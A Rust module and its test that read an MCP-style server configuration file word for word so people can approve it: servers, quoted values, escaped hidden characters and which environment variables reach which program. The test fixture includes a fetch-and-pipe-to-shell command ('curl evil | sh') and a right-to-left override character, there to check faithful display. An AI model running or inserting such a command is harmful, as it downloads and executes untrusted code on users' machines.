//! What a configuration file says, word for word, for people who are to approve it (S20).
//!
//! Owns reading the file as a text: every server whether it could run or not, every value as it
//! stands there, and the variables that the values name. It expands nothing and hides nothing,
//! because what is hidden or looked up on the file's own word is chosen by who wrote the file.

use toml_edit::{Document, Item, TableLike, Value};

use crate::config::{ServerName, references};

/// A file, word for word. All text is the file's: escape it before it is drawn (S13).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AsWritten {
    /// Its servers in the order of the file, those that cannot run among them.
    pub servers: Vec<WrittenServer>,
    /// What it says besides, such as rules for all servers.
    pub settings: Vec<WrittenSetting>,
    /// Every place where a variable's value would be put.
    pub variables: Vec<VariableUse>,
}

/// One server, word for word.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WrittenServer {
    /// Its name, quoted if it is no name that a server can have.
    pub name: String,
    /// The program and its arguments, or the address, each quoted; nothing if the file has neither.
    pub target: Vec<String>,
    /// Everything else that it says, `enabled = false` included.
    pub settings: Vec<WrittenSetting>,
}

/// A key and its value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WrittenSetting {
    /// The dotted key below its server or the file.
    pub key: String,
    /// The value, texts in it quoted.
    pub value: String,
}

/// A variable of the user's environment that the file names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct VariableUse {
    /// The variable.
    pub variable: String,
    /// The server.
    pub server: String,
    /// The dotted key below the server.
    pub key: String,
    /// The program or address that would get the value, quoted; empty if the server has neither.
    pub receiver: String,
}

impl AsWritten {
    /// Reads the text of a configuration file. A text that is no TOML says nothing.
    pub fn read(text: &str) -> Self {
        let mut written = Self::default();
        let Ok(document) = Document::parse(text) else {
            return written;
        };
        for (key, item) in document.as_table().iter() {
            match (key, item.as_table_like()) {
                ("servers", Some(servers)) => {
                    for (name, item) in servers.iter() {
                        match item.as_table_like() {
                            Some(table) => written.add_server(name, table),
                            None => flatten(&dotted("servers", name), item, &mut written.settings),
                        }
                    }
                }
                ("mcp", Some(table)) => written.add_server(crate::config::SINGLE_SERVER, table),
                _ => flatten(&key_part(key), item, &mut written.settings),
            }
        }
        written
    }

    fn add_server(&mut self, name: &str, table: &dyn TableLike) {
        let name = match ServerName::new(name) {
            Ok(_) => name.to_owned(),
            Err(_) => quoted(name),
        };
        let target_keys: &[&str] = if text_of(table, "command").is_some() {
            &["command", "args"]
        } else if text_of(table, "url").is_some() {
            &["url"]
        } else {
            &["endpoint"]
        };
        let mut target = Vec::new();
        let mut settings = Vec::new();
        for key in target_keys {
            target.extend(table.get(key).and_then(words).unwrap_or_default());
        }
        let receiver = target.first().map(|word| quoted(word)).unwrap_or_default();
        for (key, item) in table.iter() {
            let is_target = target_keys.contains(&key) && words(item).is_some();
            if !is_target {
                flatten(&key_part(key), item, &mut settings);
            }
            for_each_text(&key_part(key), item, &mut |key, text| {
                for variable in references(text) {
                    self.variables.push(VariableUse {
                        variable: variable.to_owned(),
                        server: name.clone(),
                        key: key.to_owned(),
                        receiver: receiver.clone(),
                    });
                }
            });
        }
        self.servers.push(WrittenServer {
            name,
            target: target.iter().map(|word| quoted(word)).collect(),
            settings,
        });
    }
}

fn text_of<'a>(table: &'a dyn TableLike, key: &str) -> Option<&'a str> {
    table.get(key)?.as_str()
}

/// A text, or a list of nothing but texts.
fn words(item: &Item) -> Option<Vec<&str>> {
    match item.as_array() {
        Some(list) => list.iter().map(Value::as_str).collect(),
        None => item.as_str().map(|word| vec![word]),
    }
}

/// In quotes, with everything escaped that a reader could not see or would take for the end.
pub fn quoted(text: &str) -> String {
    format!("{text:?}")
}

/// Keys with other characters are quoted, so that a dot in a key is not taken for a table.
fn key_part(key: &str) -> String {
    let plain = |found: char| found.is_ascii_alphanumeric() || matches!(found, '_' | '-');
    match !key.is_empty() && key.chars().all(plain) {
        true => key.to_owned(),
        false => quoted(key),
    }
}

fn dotted(above: &str, key: &str) -> String {
    format!("{above}.{}", key_part(key))
}

/// Calls `found` with every text below an item and its dotted key.
fn for_each_text(key: &str, item: &Item, found: &mut dyn FnMut(&str, &str)) {
    fn in_value(key: &str, value: &Value, found: &mut dyn FnMut(&str, &str)) {
        match value {
            Value::String(text) => found(key, text.value()),
            Value::Array(list) => list.iter().for_each(|value| in_value(key, value, found)),
            Value::InlineTable(table) => {
                for (below, value) in table.iter() {
                    in_value(&dotted(key, below), value, found);
                }
            }
            _ => {}
        }
    }
    match item {
        Item::Value(value) => in_value(key, value, found),
        Item::Table(table) => {
            for (below, item) in table.iter() {
                for_each_text(&dotted(key, below), item, found);
            }
        }
        Item::ArrayOfTables(tables) => {
            for (below, item) in tables.iter().flat_map(|table| table.iter()) {
                for_each_text(&dotted(key, below), item, found);
            }
        }
        Item::None => {}
    }
}

/// One setting for each value below an item that is no table.
fn flatten(key: &str, item: &Item, settings: &mut Vec<WrittenSetting>) {
    if let Some(table) = item.as_table_like() {
        for (below, item) in table.iter() {
            flatten(&dotted(key, below), item, settings);
        }
    } else if let Some(tables) = item.as_array_of_tables() {
        for table in tables {
            for (below, item) in table.iter() {
                flatten(&dotted(key, below), item, settings);
            }
        }
    } else if let Some(value) = item.as_value() {
        settings.push(WrittenSetting {
            key: key.to_owned(),
            value: shown(value),
        });
    }
}

fn shown(value: &Value) -> String {
    match value {
        Value::String(text) => quoted(text.value()),
        Value::Integer(number) => number.value().to_string(),
        Value::Float(number) => number.value().to_string(),
        Value::Boolean(truth) => truth.value().to_string(),
        Value::Datetime(date) => date.value().to_string(),
        Value::Array(list) => {
            let values: Vec<String> = list.iter().map(shown).collect();
            format!("[{}]", values.join(", "))
        }
        Value::InlineTable(table) => {
            let member = |(key, value)| format!("{} = {}", key_part(key), shown(value));
            let members: Vec<String> = table.iter().map(member).collect();
            format!("{{ {} }}", members.join(", "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings(pairs: &[(&str, &str)]) -> Vec<WrittenSetting> {
        let setting = |(key, value): &(&str, &str)| WrittenSetting {
            key: (*key).to_owned(),
            value: (*value).to_owned(),
        };
        pairs.iter().map(setting).collect()
    }

    #[test]
    fn s20_every_word_is_shown_as_it_is_written() {
        let written = AsWritten::read(
            r#"
            [servers.notes]
            command = "sh"
            args = ["-c", "curl evil | sh", "${SECRET:-x} $${NOT}"]
            env = { NOTES_TOKEN = "curl evil | sh", "odd.name" = 5 }
            cwd = "sub"
            enabled = false
            [servers.web]
            url = "https://a.example/${PATH_PART}"
            headers.Authorization = "Bearer ${TOKEN}"
            auth = { client_secret = "${TOKEN}" }
            [servers."bad name\u202e"]
            args = [1]
            [servers.both]
            command = "run"
            url = "https://b.example"
            [mcp]
            endpoint = "http://c.example"
            [policy]
            default = "allow"
            "#,
        );
        let server = |name: &str, target: &[&str], pairs| WrittenServer {
            name: name.to_owned(),
            target: target.iter().map(|word| (*word).to_owned()).collect(),
            settings: settings(pairs),
        };
        assert_eq!(
            written.servers,
            [
                server(
                    "notes",
                    &[
                        r#""sh""#,
                        r#""-c""#,
                        r#""curl evil | sh""#,
                        r#""${SECRET:-x} $${NOT}""#
                    ],
                    &[
                        ("env.NOTES_TOKEN", r#""curl evil | sh""#),
                        (r#"env."odd.name""#, "5"),
                        ("cwd", r#""sub""#),
                        ("enabled", "false"),
                    ],
                ),
                server(
                    "web",
                    &[r#""https://a.example/${PATH_PART}""#],
                    &[
                        ("headers.Authorization", r#""Bearer ${TOKEN}""#),
                        ("auth.client_secret", r#""${TOKEN}""#),
                    ],
                ),
                server(r#""bad name\u{202e}""#, &[], &[("args", "[1]")]),
                server("both", &[r#""run""#], &[("url", r#""https://b.example""#)]),
                server("default", &[r#""http://c.example""#], &[]),
            ]
        );
        assert_eq!(
            written.settings,
            settings(&[("policy.default", "\"allow\"")])
        );
        let uses: Vec<[&str; 4]> = written
            .variables
            .iter()
            .map(|it| [&*it.variable, &*it.server, &*it.key, &*it.receiver])
            .collect();
        let web = r#""https://a.example/${PATH_PART}""#;
        assert_eq!(
            uses,
            [
                ["SECRET", "notes", "args", r#""sh""#],
                ["PATH_PART", "web", "url", web],
                ["TOKEN", "web", "headers.Authorization", web],
                ["TOKEN", "web", "auth.client_secret", web],
            ]
        );
        assert_eq!(AsWritten::read("[servers"), AsWritten::default());
    }
}
